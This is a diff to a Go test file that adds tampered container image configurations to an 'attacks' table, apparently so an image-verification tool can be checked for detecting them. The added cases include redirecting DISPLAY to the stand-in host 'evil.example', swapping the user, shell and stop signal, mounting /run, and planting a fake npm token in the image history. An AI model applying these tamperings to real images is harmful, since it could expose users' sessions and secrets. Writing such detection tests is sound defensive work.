@@ -57,6 +57,11 @@ func env(set ...string) func(*v1.ConfigFile) {
 	return func(c *v1.ConfigFile) { c.Config.Env = append(slices.Clip(c.Config.Env), set...) }
 }
 
+// replaced gives one variable, which must be there, another value.
+func replaced(old, line string) func(*v1.ConfigFile) {
+	return func(c *v1.ConfigFile) { c.Config.Env[slices.Index(c.Config.Env, old)] = line }
+}
+
 const portProxy = `
     server {
         listen 8080;
@@ -244,6 +249,14 @@ func attacks(t testing.TB) map[string]struct {
 		"for who builds on it":    {plant{config: func(c *v1.ConfigFile) { c.Config.OnBuild = []string{"RUN x"} }}, "config"},
 		"a port":                  {plant{config: func(c *v1.ConfigFile) { c.Config.ExposedPorts = map[string]struct{}{"8080/tcp": {}, "9222/tcp": {}} }}, "config-port"},
 		"a volume":                {plant{config: func(c *v1.ConfigFile) { c.Config.Volumes = map[string]struct{}{"/etc/agent-browser": {}} }}, "config-volume"},
+		"a variable of the base":  {plant{config: replaced("DISPLAY=:99.0", "DISPLAY=evil.example:0")}, "config"},
+		"one more variable":       {plant{config: env("MALLOC_CONF=stats_print:true")}, "config"},
+		"another user":            {plant{config: func(c *v1.ConfigFile) { c.Config.User = "gem" }}, "config"},
+		"another stop signal":     {plant{config: func(c *v1.ConfigFile) { c.Config.StopSignal = "SIGSTOP" }}, "config"},
+		"a volume for keys":       {plant{config: func(c *v1.ConfigFile) { c.Config.Volumes = map[string]struct{}{"/run": {}} }}, "config"},
+		"another shell":           {plant{config: func(c *v1.ConfigFile) { c.Config.Shell = []string{"/bin/x", "-c"} }}, "config"},
+		"a health check of hours": {plant{config: func(c *v1.ConfigFile) { c.Config.Healthcheck.Interval *= 1000 }}, "config"},
+		"another kernel":          {plant{config: func(c *v1.ConfigFile) { c.OSVersion = "10.0.1" }}, "config"},
 		"a token in the history": {plant{config: func(c *v1.ConfigFile) {
 			c.History = append(c.History, v1.History{EmptyLayer: true, CreatedBy: "ENV NPM_TOKEN=npm_" + strings.Repeat("a", 36)})
 		}}, "secret-history"},
